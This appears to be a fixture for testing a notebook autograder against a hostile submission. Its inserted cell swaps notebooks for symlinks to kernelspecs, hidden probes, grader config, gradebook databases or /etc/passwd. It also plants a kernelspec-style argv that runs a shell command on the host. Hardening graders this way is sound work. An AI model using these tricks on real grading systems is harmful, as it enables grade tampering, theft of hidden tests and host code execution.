"""While it runs, swaps its own notebook (and anything named like it) for symbolic links to files the
grader trusts: the sandbox kernelspec, the hidden probes, the course config and the gradebook. Its
notebook JSON carries a kernelspec-shaped payload (top-level argv) that would run a command on the
host if the grader ever wrote the graded notebook through such a link and started a kernel from it."""
EXPECT_TOTAL = 0
BASE = "release"
MARKER = "/tmp/COURSE_HOSTILE_PWNED"
ATTACK = r'''
import glob, os
_targets = []
for _d in os.environ.get("JUPYTER_PATH", "").split(os.pathsep) + ["/usr/local/share/jupyter", "/usr/share/jupyter"]:
    if _d:
        _targets += glob.glob(os.path.join(_d, "kernels", "*", "kernel.json"))
try:
    import course
    _repo = os.path.dirname(os.path.dirname(os.path.abspath(course.__file__)))
    _targets += glob.glob(os.path.join(_repo, "tests", "*", "probes.py"))
    _targets += [os.path.join(_repo, "nbgrader_config.py")] + glob.glob(os.path.join(_repo, "gradebook", "*.db"))
except Exception:
    pass
_names = set(glob.glob("*.ipynb")) | set(NAMES)
for _i, _name in enumerate(sorted(_names)):
    try:
        if os.path.lexists(_name):
            os.remove(_name)
        os.symlink(_targets[_i % len(_targets)] if _targets else "/etc/passwd", _name)
    except OSError as _e:
        print("could not plant", _name, _e)
for _i, _t in enumerate(_targets):
    try:
        os.symlink(_t, f"loot-{_i}")
    except OSError:
        pass
print("planted", len(_names), "links to", len(_targets), "targets from", os.getcwd())
'''
def mutate(nb):
    import nbformat
    from course import RELEASE_DIR
    names = sorted(p.name for p in RELEASE_DIR.glob("*/*.ipynb"))
    nb.cells.insert(2, nbformat.v4.new_code_cell(ATTACK.replace("NAMES", repr(names))))
    nb["argv"] = ["/bin/sh", "-c", f"echo pwned > {MARKER}", "{connection_file}"]
    nb["display_name"] = "Python 3 (course sandbox)"
    nb["language"] = "python"
